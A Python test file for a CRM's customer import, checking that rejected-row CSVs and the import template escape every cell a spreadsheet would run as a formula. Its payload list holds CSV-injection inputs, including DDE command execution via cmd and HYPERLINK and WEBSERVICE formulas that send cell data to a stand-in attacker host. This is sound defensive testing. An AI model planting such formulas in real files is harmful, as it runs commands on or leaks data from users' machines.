"""What a spreadsheet could run, in every column of a file, and what of it leaves again as CSV: no cell that runs.

The two files that leave are the rejected rows of an import and the template. Exports would be a third: see
tests/api/test_access.py.
"""

import csv
import io
from typing import Any

import httpx
import pytest
from factories import Person, make_unit, make_user
from import_runs import work
from kith_client import Kith

from crm.customers.models import Customer
from crm.imports.fields import IMPORT_FIELDS
from crm.imports.models import Import
from crm.kernel.actor import Role
from crm.kernel.csv_safety import unsafe_cell

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"pay here")',
    '=WEBSERVICE("https://evil.example/")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "−1+1",
]
SKIPPED = " \t\r\n\xa0\u200b\u200c\u2060\u3000\ufeff"
RUNS = tuple("=+-@＝＋－＠−")
LABELS = [field.label for field in IMPORT_FIELDS.values()]
PLAIN = {field.label: field.example for field in IMPORT_FIELDS.values()}
EMAIL = IMPORT_FIELDS["email"].label
DONE = "query ($id: ID!) { import(id: $id) { state failedCount createdCount rejectedRowsUrl } }"


@pytest.fixture
async def manager(db: None) -> Person:
    return await make_user(Role.MANAGER, [await make_unit()])


def runs(cell: str) -> bool:
    """Whether a spreadsheet would look at it as a formula."""
    return cell.lstrip(SKIPPED).startswith(RUNS)


def as_csv(rows: list[list[str]]) -> bytes:
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)
    return file.getvalue().encode()


async def imported(kith: Kith, content: bytes, mapping: dict[str, str]) -> dict[str, Any]:
    """A whole import through the API, the jobs by the workers' own code."""
    started = await kith.upload(
        "startCustomerImport", "StartCustomerImportInput", "import { id }", {}, ("c.csv", content)
    )
    assert started["errors"] == []
    named = {"id": started["import"]["id"]}
    columns = [{"column": column, "field": key} for column, key in mapping.items()]
    configured = await kith.mutate(
        "configureImport", "ConfigureImportInput", "", named | {"hasHeader": True, "mapping": columns}
    )
    assert configured["errors"] == []
    for step, kind in (("previewImport", "ImportInput"), ("runImport", "RunImportInput")):
        assert (await kith.mutate(step, kind, "", named))["errors"] == []
        await work()
    found: dict[str, Any] = (await kith.graphql(DONE, named))["import"]
    return found


async def downloaded(kith: Kith, url: str) -> list[list[str]]:
    async with httpx.AsyncClient(base_url=kith.url) as client:
        answer = await client.get("/files/" + url.partition("/files/")[2])
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_rejected_rows_hold_no_cell_that_runs_whichever_column_it_came_in(
    server: str, manager: Person, payload: str
) -> None:
    """Each row holds it in one column, and is rejected for its address."""
    kith = Kith(server, manager.token)
    headings = [*LABELS, "A note of ours", "=1+1"]
    rows = []
    for place in range(len(headings)):
        row = [(PLAIN | {EMAIL: "nobody"}).get(each, "note") for each in headings]
        row[place] = payload
        rows.append(row)

    done = await imported(
        kith, as_csv([headings, *rows]), {field.label: key for key, field in IMPORT_FIELDS.items()}
    )
    head, *rejected = await downloaded(kith, done["rejectedRowsUrl"])

    assert (done["state"], done["createdCount"], done["failedCount"]) == ("COMPLETED", 0, len(rows))
    assert await Customer.all().count() == 0
    assert head[: len(headings)] == [*headings[:-1], "'=1+1"]
    for place, (given, row) in enumerate(zip(rows, rejected, strict=True)):
        assert row[place] == f"'{payload}"
        assert [unsafe_cell(cell) for cell in row[: len(headings)]] == given  # it comes back as it was
        assert not any(runs(cell) for cell in row)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_headings_that_would_run_are_marked_too_and_so_are_the_reasons_that_name_them(
    server: str, manager: Person, payload: str
) -> None:
    kith = Kith(server, manager.token)
    content = as_csv([["Name", EMAIL, payload], ["Acme", "nobody", payload]])

    done = await imported(kith, content, {"Name": "name", EMAIL: "email"})
    table = await downloaded(kith, done["rejectedRowsUrl"])

    kept = (await Import.get()).columns[2]  # in one line, as headings are kept
    assert kept.strip(SKIPPED) == payload.strip(SKIPPED)
    assert table[0][2] == f"'{kept}"
    assert table[1][2] == f"'{payload}"
    assert not any(runs(cell) for row in table for cell in row)


async def test_the_template_holds_no_cell_that_runs(server: str, manager: Person) -> None:
    kith = Kith(server, manager.token)
    told = await kith.graphql("{ importTemplateUrl importTemplate }")

    table = await downloaded(kith, told["importTemplateUrl"])

    assert table[0] == LABELS
    assert [unsafe_cell(cell) for cell in table[1]] == list(PLAIN.values())
    assert not any(runs(cell) for row in table for cell in row)
    assert list(csv.reader(io.StringIO(told["importTemplate"], newline=""))) == table
